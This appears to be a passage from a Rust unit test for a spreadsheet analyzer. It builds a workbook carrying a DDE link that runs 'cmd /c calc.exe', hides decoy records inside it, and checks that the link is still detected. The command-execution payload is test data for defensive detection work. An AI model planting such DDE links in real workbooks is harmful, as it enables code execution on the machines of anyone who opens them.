    let link = link_part(1, "cmd", "/c calc.exe", &[("A1", 0x7502)]);
    let head = record(360, &join(&[&[1, 0], &wide("cmd"), &wide("/c calc.exe")]));
    let tail = &link[head.len()..];
    let other = record(360, &join(&[&[0, 0], &wide("r"), &wide("x")]));
    let item = join(&[&record(577, &wide("junk")), &record(587, &[])]);
    for decoy in [other, item] {
        let part = join(&[&head, &inside(&decoy), tail]);
        let cells = join(&[&row(3), &formula_cell(1, &name_x(0, 1))]);
        let report = analyze(&Workbook::new().link(part, "").cells(&cells).build());
        assert_eq!(triples(&report), [triple("cmd", "/c calc.exe", "A1")]);
        assert_eq!(dde(&report)[0].used_by, ["Tabelle1!B4"]);
    }
}
